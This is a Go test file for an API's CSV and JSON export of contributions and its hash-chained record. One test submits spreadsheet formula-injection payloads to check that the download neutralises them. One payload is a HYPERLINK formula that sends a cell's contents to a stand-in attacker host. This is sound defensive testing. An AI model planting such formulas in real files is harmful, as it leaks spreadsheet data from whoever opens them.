package api

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/compact-un/compact/process"
	"github.com/compact-un/compact/wire"
)

func TestExportContributions(t *testing.T) {
	t.Parallel()
	a := newAPIServer(t)
	id := seedPrivateWindow(t)
	mex, che := a.token(MemberState, "MEX", ""), a.token(MemberState, "CHE", "")
	submit := func(token, stage, title, body string) string {
		t.Helper()
		res := a.do("POST", contributionsPath(id, stage), token, map[string]string{"title": title, "body": body}, "Idempotency-Key", newKey())
		if res.Status != http.StatusCreated {
			t.Fatalf("POST: %d %s", res.Status, res.Body)
		}
		var r process.Receipt
		res.JSON(t, &r)
		return r.Tracking
	}
	// Text that CSV must quote.
	public := submit(mex, "hearing", `Mexico, "public"`, "Line one,\nline two; a \"quote\".")
	private := submit(che, "inputs", "Switzerland", "Private.")
	withdrawn := submit(che, "hearing", "Withdrawn", "Taken back.")
	if res := a.do("DELETE", "/v1/contributions/"+withdrawn, che, nil); res.Status != http.StatusNoContent {
		t.Fatalf("DELETE: %d", res.Status)
	}
	// More than a page of them, straight into the store.
	for i := range exportPage + 20 {
		_, err := stack.store.Submit(t.Context(), process.Submission{ProcessID: id, StageID: "hearing", Party: "FRA",
			Role: "member-state", IdempotencyKey: newKey(), Title: fmt.Sprint("France ", i), Body: "Bulk."}, time.Now())
		if err != nil {
			t.Fatal(err)
		}
	}
	total := 3 + exportPage + 20

	res := a.do("GET", "/v1/processes/"+id+"/contributions.csv", "", nil)
	if res.Status != http.StatusOK || res.Header.Get("Content-Type") != "text/csv; charset=utf-8; header=present" ||
		res.Header.Get("Content-Disposition") != `attachment; filename=`+id+`-contributions.csv` {
		t.Fatalf("CSV: %d %v", res.Status, res.Header)
	}
	records, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(records[0], exportColumns) || len(records) != 1+total {
		t.Fatalf("CSV header %v and %d rows, want %d", records[0], len(records)-1, total)
	}
	rows := map[string][]string{}
	for _, rec := range records[1:] {
		rows[rec[0]] = rec
	}
	if r := rows[public]; r[5] != "Line one,\nline two; a \"quote\"." || r[8] != "false" || r[7] != hashOf(r[4], r[5]) {
		t.Errorf("public row %q", r)
	}
	if r := rows[private]; r[5] != "" || r[4] != "Switzerland" {
		t.Errorf("private row %q", r)
	}
	if r := rows[withdrawn]; r[5] != "" || r[8] != "true" {
		t.Errorf("withdrawn row %q", r)
	}
	if _, err := time.Parse(time.RFC3339Nano, rows[public][6]); err != nil {
		t.Errorf("submittedAt: %v", err)
	}

	res = a.do("GET", "/v1/processes/"+id+"/contributions.json", "", nil)
	if res.Status != http.StatusOK || res.Header.Get("Content-Type") != "application/json" {
		t.Fatalf("JSON: %d %v", res.Status, res.Header)
	}
	var all []wire.ExportRow
	if err := json.Unmarshal(res.Body, &all); err != nil {
		t.Fatalf("JSON: %v\n%s", err, res.Body)
	}
	if len(all) != total {
		t.Fatalf("JSON: %d rows, want %d", len(all), total)
	}
	for _, r := range all {
		switch r.Tracking {
		case public:
			if r.Body == nil || *r.Body != "Line one,\nline two; a \"quote\"." || r.SHA256 != hashOf(r.Title, *r.Body) {
				t.Errorf("public %+v", r)
			}
		case private, withdrawn:
			if r.Body != nil || r.Withdrawn != (r.Tracking == withdrawn) {
				t.Errorf("%s: %+v", r.Tracking, r)
			}
		}
	}
}

func TestExportEmptyAndUnknown(t *testing.T) {
	t.Parallel()
	a := newAPIServer(t)
	id := seedPrivateWindow(t)
	if res := a.do("GET", "/v1/processes/"+id+"/contributions.json", "", nil); string(res.Body) != "[]\n" {
		t.Errorf("empty JSON: %q", res.Body)
	}
	if res := a.do("GET", "/v1/processes/"+id+"/contributions.csv", "", nil); string(res.Body) != "tracking,stage,party,role,title,body,submittedAt,sha256,withdrawn\n" {
		t.Errorf("empty CSV: %q", res.Body)
	}
	for _, path := range []string{"contributions.csv", "contributions.json", "record.csv"} {
		if res := a.do("GET", "/v1/processes/nope/"+path, "", nil); res.Status != http.StatusNotFound {
			t.Errorf("%s of no process: %d", path, res.Status)
		}
	}
}

// TestExportRecord reads a running process's record as CSV and checks its
// hash chain from the file alone.
func TestExportRecord(t *testing.T) {
	t.Parallel()
	a := newAPIServer(t)
	id := openConsultation(t)
	res := a.do("GET", "/v1/processes/"+id+"/record.csv", "", nil)
	if res.Status != http.StatusOK || res.Header.Get("Content-Disposition") != "attachment; filename="+id+"-record.csv" {
		t.Fatalf("%d %v", res.Status, res.Header)
	}
	records, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(records[0], []string{"seq", "key", "stage", "event", "at", "data", "prevHash", "hash"}) || len(records) < 3 {
		t.Fatalf("%d records, header %v", len(records), records[0])
	}
	var entries []process.RecordEntry
	for _, rec := range records[1:] {
		seq, err := strconv.ParseInt(rec[0], 10, 64)
		if err != nil {
			t.Fatal(err)
		}
		at, err := time.Parse(time.RFC3339Nano, rec[4])
		if err != nil {
			t.Fatal(err)
		}
		entries = append(entries, process.RecordEntry{Seq: seq, PrevHash: rec[6], Hash: rec[7], RecordEvent: process.RecordEvent{
			ProcessID: id, Key: rec[1], StageID: rec[2], Event: rec[3], At: at, Data: rec[5]}})
	}
	if err := process.VerifyChain(entries); err != nil {
		t.Fatal(err)
	}
	if entries[0].Event != "process.created" {
		t.Errorf("first event %s", entries[0].Event)
	}
}

func hashOf(title, body string) string {
	sum := sha256.Sum256([]byte(title + "\n" + body))
	return hex.EncodeToString(sum[:])
}

// TestCSVExportIsSafeToOpen submits contributions a spreadsheet would run
// as formulas: the CSV a user downloads shows them as text, and each
// receipt still verifies against it by the rule of
// docs/record-verification.md (take one leading quote off every cell).
func TestCSVExportIsSafeToOpen(t *testing.T) {
	t.Parallel()
	a := newAPIServer(t)
	id := seedPrivateWindow(t)
	mex := a.token(MemberState, "MEX", "")
	receipts := map[string]process.Receipt{}
	for _, c := range []struct{ title, body string }{
		{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, "+1+2"},
		{"-2+3", "@SUM(A1:A2)"},
		{"\tTabbed", "\rReturned"},
		{"'Quoted already", "'=1+1"},
		{"Plain", "Nothing to neutralise."},
	} {
		res := a.do("POST", contributionsPath(id, "hearing"), mex, map[string]string{"title": c.title, "body": c.body}, "Idempotency-Key", newKey())
		var r process.Receipt
		res.JSON(t, &r)
		if res.Status != http.StatusCreated {
			t.Fatalf("POST %q: %d %s", c.title, res.Status, res.Body)
		}
		receipts[r.Tracking] = r
	}

	res := a.do("GET", "/v1/processes/"+id+"/contributions.csv", "", nil)
	records, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	stored := func(cell string) string { return strings.TrimPrefix(cell, "'") } // the documented rule
	for _, rec := range records[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("row %s: cell %q would run as a formula", rec[0], cell)
			}
		}
		title, body := stored(rec[4]), stored(rec[5])
		if r := receipts[rec[0]]; hashOf(title, body) != r.SHA256 || rec[7] != r.SHA256 {
			t.Errorf("row %s (%q, %q): hash %s, receipt %s", rec[0], title, body, hashOf(title, body), r.SHA256)
		}
	}
	if len(records) != 1+len(receipts) {
		t.Fatalf("%d rows, want %d", len(records)-1, len(receipts))
	}
}
